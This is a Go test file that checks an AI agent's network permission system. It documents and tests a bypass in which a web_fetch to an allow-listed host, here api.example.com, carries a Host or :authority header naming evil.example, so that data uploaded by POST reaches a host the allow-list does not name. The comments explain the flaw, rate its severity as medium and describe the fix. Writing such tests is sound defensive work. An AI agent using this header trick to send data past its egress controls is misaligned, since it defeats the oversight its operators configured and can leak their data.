package tests

import (
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"testing"
)

// attack29HostProfile: a network with one allowed host, decided without a
// question (the full_access table), as a profile a person sets up to let
// the agent fetch one API and nothing else.
const attack29HostProfile = `
[permissions.oneapi]
extends = ":workspace"
[permissions.oneapi.network]
enabled = true
[permissions.oneapi.network.domains]
"api.example.com" = "allow"
[permissions.oneapi.approvals]
policy = "full_access"
`

// TestAttack29WebFetchHostHeader: the decision path judges a web_fetch by
// its URL's host alone, and reads its headers argument only for the
// methods they name (the twenty-seventh review). A web_fetch of
// https://api.example.com/… whose headers say `Host: evil.example` (or
// HTTP/2's `:authority`) is allowed under an allow-list that names
// api.example.com only. A runtime whose fetch honours a Host header (curl
// -H, Python requests, undici) connects to the allowed host's address and
// asks for the other virtual host there: on shared hosting or a CDN
// (plain HTTP, or HTTPS fronting where SNI says api.example.com and Host
// says evil.example) the request, and whatever the agent put in it, goes to
// a site the allow-list does not name. The egress proxy does not let this
// through for plain HTTP (Go's server takes the host of an absolute-form
// request from its URL and drops the Host line, and the proxy forwards that
// host), so the decision and the proxy disagree on the same request, as
// they did on method override headers.
//
// Fixed would look like: a web_fetch (or download_url) whose headers name
// a Host or :authority other than the URL's host (after the same
// normalisation) is refused (or judged as a request to that host too, so
// that the allow-list and deny rules apply to it), at decision time, with
// a refusal code naming it.
//
// Severity: medium (data leaves to a host the allow-list does not name,
// through a runtime that honours its tool's headers; needs a co-hosted
// or fronting-permissive CDN for HTTPS).
//
// Controls: the URL alone is allowed; a URL naming evil.example is denied
// (host_not_allowed); a Host header naming the URL's own host is allowed.
func TestAttack29WebFetchHostHeader(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	file := filepath.Join(dir, "profiles.toml")
	if err := os.WriteFile(file, []byte(attack29HostProfile), 0o644); err != nil {
		t.Fatal(err)
	}
	dns := dnsServer(t, map[string][]netip.Addr{
		"api.example.com": {netip.MustParseAddr("93.184.216.34")},
		"evil.example":    {netip.MustParseAddr("93.184.216.34")},
	})
	s := StartServer(t, "", "--profiles", file, "--dns-server", dns)
	root := workspace(t)
	if status, body := s.Do("POST", "/v1/turns", map[string]any{"turn_id": "hh", "workspace_id": "ws", "thread_id": "th",
		"workspace_root": root, "permission_profile": map[string]any{"profile": "oneapi"}}); status != http.StatusCreated {
		t.Fatalf("start: %d %s", status, body)
	}
	url := "https://api.example.com/v1/upload"
	if d := s.decide("hh", "plain", "web_fetch", map[string]any{"url": url}); d.Decision != "allow" {
		t.Fatalf("control: the allowed host: %+v, want allow", d)
	}
	if d := s.decide("hh", "evil", "web_fetch", map[string]any{"url": "https://evil.example/v1/upload"}); d.Decision != "deny" {
		t.Fatalf("control: a host the allow-list does not name: %+v, want deny", d)
	}
	if d := s.decide("hh", "same", "web_fetch", map[string]any{"url": url, "headers": map[string]any{"Host": "api.example.com"}}); d.Decision != "allow" {
		t.Fatalf("control: a Host header naming the URL's own host: %+v, want allow", d)
	}
	for i, h := range []any{
		map[string]any{"Host": "evil.example"},
		map[string]any{"host": "evil.example:443"},
		map[string]any{":authority": "evil.example"},
		[]any{"Host: evil.example"},
	} {
		d := s.decide("hh", "fronted"+string(rune('a'+i)), "web_fetch", map[string]any{"url": url, "method": "POST", "headers": h})
		if d.Decision == "allow" {
			t.Errorf("web_fetch of %s with headers %v (the request goes to the virtual host evil.example): allow %s; want it refused, as the URL naming evil.example is", url, h, d.Reason)
		}
	}
}
